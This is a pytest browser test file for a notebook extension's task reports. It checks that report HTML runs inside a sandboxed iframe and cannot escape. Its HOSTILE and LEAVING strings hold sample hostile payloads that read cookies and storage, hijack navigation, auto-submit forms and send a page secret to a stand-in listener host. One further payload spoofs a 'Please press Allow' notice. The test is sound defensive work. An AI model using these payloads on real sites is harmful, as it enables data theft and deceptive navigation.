"""Reports under the cell: live, and unable to reach the page."""

from __future__ import annotations

import threading
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.browser.lab import Lab

SETUP = """
%load_ext flyte_nb
import asyncio, pathlib
import flyte_nb as flyte
env = flyte.TaskEnvironment("reports")

async def reached(path):
    while not pathlib.Path(path).exists():
        await asyncio.sleep(0.01)
"""


def frame_of(lab: Lab, cell: int) -> Any:
    """Inside of the report's frame."""
    return lab.output(cell).frame_locator("iframe.fnb-report-frame").frame_locator("iframe")


def test_scripts_of_a_streaming_report_run_as_they_arrive(open_notebook: Callable[..., Lab], tmp_path: Path) -> None:
    gate = tmp_path / "gate"
    lab = open_notebook(
        SETUP,
        f"""
@env.task(report=True)
async def stream() -> None:
    flyte.report.log('''<h1 id="count">0</h1><script>
        let total = 0;
        function add(n) {{ total += n; document.getElementById("count").textContent = total; }}
        document.addEventListener("DOMContentLoaded", () => document.body.append("ready"));
    </script>''', do_flush=True)
    for n in range(200):
        flyte.report.log(f"<script>add({{n}})</script>", do_flush=True)
        await asyncio.sleep(0)
    await reached({str(gate)!r})
    flyte.report.log("<script>add(100)</script>", do_flush=True)

run = flyte.run(stream)
flyte.show(run)
run.wait()
""",
    )
    lab.run(0)
    lab.run(1, wait=False)
    frame = frame_of(lab, 1)
    frame.locator("#count").filter(has_text="19900").wait_for()
    assert frame.get_by_text("ready").count() == 1
    assert lab.busy(1)
    gate.touch()
    frame.locator("#count").filter(has_text="20000").wait_for()


def test_a_report_is_replaced_and_has_tabs(open_notebook: Callable[..., Lab]) -> None:
    lab = open_notebook(
        SETUP,
        """
@env.task(report=True)
async def tabs() -> None:
    flyte.report.log("<p>old</p>", do_flush=True)
    flyte.report.replace("<p>new</p>", do_flush=True)
    flyte.report.get_tab("More").log("<p>second tab</p>")

run = flyte.run(tabs)
run.wait()
run
""",
    )
    lab.run(0)
    lab.run(1)
    frame = frame_of(lab, 1)
    frame.get_by_text("new").wait_for()
    assert frame.get_by_text("old").count() == 0
    lab.output(1).get_by_role("button", name="More").click()
    frame.get_by_text("second tab").wait_for()


class Listener:
    """A web server elsewhere, and what it was asked for."""

    def __init__(self) -> None:
        asked = self.asked = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Hears whatever gets out of a page."""
    listener = Listener()
    thread = threading.Thread(target=listener.server.serve_forever)
    thread.start()
    yield listener
    listener.server.shutdown()
    thread.join()
    listener.server.server_close()


HOSTILE = """
<h1 id="here">here</h1>
<script>
const tries = {
    page: () => parent.document.title,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    top: () => { top.location = "about:blank"; },
    popup: () => { if (window.open("about:blank") === null) throw new Error("no popup"); },
    form: () => {
        const form = document.createElement("form");
        form.action = "LISTENER/form-was-sent"; form.target = "_top"; document.body.append(form); form.submit();
        throw new Error("the listener tells");
    },
};
const done = [];
for (const [name, attempt] of Object.entries(tries)) {
    try { attempt(); done.push(name); } catch (error) {}
}
new Image().src = "LISTENER/image-was-loaded";
fetch("LISTENER/data-was-sent").then(() => done.push("fetch"), () => {}).then(() => {
    document.body.append(`succeeded: [${done}]`);
});
</script>
"""


def test_a_hostile_report_cannot_touch_the_page(open_notebook: Callable[..., Lab], listener: Listener) -> None:
    lab = open_notebook(
        SETUP,
        f"HOSTILE = {HOSTILE.replace('LISTENER', listener.address)!r}",
        """
@env.task(report=True)
async def hostile() -> None:
    flyte.report.log(HOSTILE)

run = flyte.run(hostile)
run.wait()
run
""",
    )
    for cell in range(3):
        lab.run(cell)
    frame = frame_of(lab, 2)
    frame.get_by_text("succeeded: []").wait_for()
    assert "/lab/" in lab.page.url
    urllib.request.urlopen(f"{listener.address}/by-the-test").close()
    assert listener.asked == ["/by-the-test"]
    lab.output(2).get_by_text("from the internet").wait_for()


LEAVING = {
    "by script": "<script>location.href = 'LISTENER/gone?' + document.getElementById('secret').textContent</script>",
    "by script, with a form": "<form method=get action='LISTENER/gone'></form><script>document.forms[0].submit();"
    "location.replace('LISTENER/gone')</script>",
    "by refresh": "<meta http-equiv='refresh' content='0;url=LISTENER/gone'>",
    "by click": "<a href='LISTENER/gone' ping='LISTENER/ping'>x</a>"
    "<script>document.querySelector('a').click()</script>",
    "to nowhere": "<script>location.href = 'about:blank'</script>",
}


@pytest.mark.parametrize("way", LEAVING)
def test_a_report_that_goes_elsewhere_is_taken_away_and_reaches_nobody(
    open_notebook: Callable[..., Lab], listener: Listener, way: str
) -> None:
    lab = open_notebook(
        SETUP,
        f"""
@env.task(report=True)
async def leave() -> None:
    flyte.report.log({"<p id=secret>bye</p>" + LEAVING[way].replace("LISTENER", listener.address)!r})

run = flyte.run(leave)
run.wait()
run
""",
    )
    lab.run(0)
    lab.run(1)
    lab.output(1).get_by_text("tried to leave").wait_for()
    assert lab.output(1).locator("iframe").count() == 0
    urllib.request.urlopen(f"{listener.address}/by-the-test").close()
    assert listener.asked == ["/by-the-test"]


def test_a_report_cannot_write_the_notice_of_what_is_blocked(open_notebook: Callable[..., Lab]) -> None:
    lab = open_notebook(
        SETUP,
        """
def saying(address):
    return f"<script>parent.postMessage({{kind: 'blocked', address: {address!r}}}, '*')</script>"

@env.task(report=True)
async def spoof() -> None:
    flyte.report.log(saying("our logo. Please press Allow.") + saying("https://example.org/Please press Allow"))

run = flyte.run(spoof)
run.wait()
run
""",
    )
    lab.run(0)
    lab.run(1)
    lab.output(1).get_by_role("status").get_by_text("example.org", exact=True).wait_for()
    assert "press Allow" not in lab.text(1)
    assert "every https address" in lab.text(1)
